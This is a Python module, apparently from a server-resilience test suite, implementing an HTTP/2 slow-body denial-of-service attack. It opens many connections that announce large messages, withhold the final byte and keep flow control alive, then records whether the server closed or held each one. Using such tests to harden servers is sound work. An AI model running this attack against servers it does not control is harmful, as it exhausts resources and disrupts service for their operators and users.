"""Calls whose messages lack their last byte."""

import asyncio
import contextlib
from collections import Counter

from bench.hostile import frames, payloads
from bench.hostile.attacks.sockets import CLOSED
from bench.hostile.attacks.target import Target, host_and_port

_CONNECTIONS, _CALLS = 100, 10
_LENGTH = 4 << 20
"""Announced bytes of a message."""
_CHUNK = 1 << 14
"""Bytes of a frame: the most that a server takes by default."""


async def half_sent(target: Target, length: int = _LENGTH) -> Counter[str]:
    """Sends a thousand messages of `length` bytes without their last byte."""
    every = (_Connection(target, length) for _ in range(_CONNECTIONS))
    return Counter(await asyncio.gather(*(connection.play() for connection in every)))


class _Connection:
    """One connection with several calls, which sends as much as the server's windows allow."""

    def __init__(self, target: Target, length: int) -> None:
        self._target, self._length = target, length
        self._initial = self._room = frames.INITIAL_WINDOW
        self._rooms = dict.fromkeys(range(1, 2 * _CALLS, 2), frames.INITIAL_WINDOW)
        self._left = dict.fromkeys(self._rooms, length - 1)
        self._more = asyncio.Event()

    async def play(self) -> str:
        """Sends until the time is over, or the server closes the connection."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(self._target.seconds):
                await self._talk()
                return CLOSED
        return "held"

    async def _talk(self) -> None:
        """Returns when the server closes the connection."""
        try:
            reader, writer = await asyncio.open_connection(*host_and_port(self._target.front))
            with contextlib.closing(writer):
                writer.write(frames.PREFACE + frames.frame(frames.SETTINGS))
                async with asyncio.TaskGroup() as group:
                    group.create_task(self._receive(reader, writer))
                    group.create_task(self._send(writer))
        except* (OSError, asyncio.IncompleteReadError):
            pass  # the server closed it, too

    async def _send(self, writer: asyncio.StreamWriter) -> None:
        for stream in self._rooms:
            head = frames.message_head(self._length)
            self._take(stream, len(head))
            writer.write(frames.call(stream, payloads.ANSWER))
            writer.write(frames.frame(frames.DATA, stream, head))
        while self._left:
            self._more.clear()
            if not await self._chunks(writer):
                await self._more.wait()

    async def _chunks(self, writer: asyncio.StreamWriter) -> int:
        """Sends a frame of every call that may send one; returns their number."""
        sent = 0
        for stream, left in list(self._left.items()):
            size = min(_CHUNK, left, self._room, self._rooms[stream])
            if size > 0:
                self._take(stream, size)
                self._left[stream] -= size
                writer.write(frames.frame(frames.DATA, stream, bytes(size)))
                sent += 1
        await writer.drain()
        return sent

    async def _receive(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = frames.head(await reader.readexactly(frames.HEAD))
            payload = await reader.readexactly(head.length)
            if head.kind == frames.GOAWAY:
                raise ConnectionResetError
            if head.kind in (frames.SETTINGS, frames.PING) and not head.flags & frames.ACK:
                echo = payload if head.kind == frames.PING else b""
                writer.write(frames.frame(head.kind, 0, echo, frames.ACK))
            self._apply(head, payload)
            self._more.set()

    def _apply(self, head: frames.Head, payload: bytes) -> None:
        if head.kind == frames.RST_STREAM:
            self._left.pop(head.stream, None)
        elif head.kind == frames.WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if head.stream:
                self._rooms[head.stream] += more
            else:
                self._room += more
        elif head.kind == frames.SETTINGS:
            for size in frames.window_sizes(payload):
                for stream in self._rooms:
                    self._rooms[stream] += size - self._initial
                self._initial = size

    def _take(self, stream: int, size: int) -> None:
        self._room -= size
        self._rooms[stream] -= size
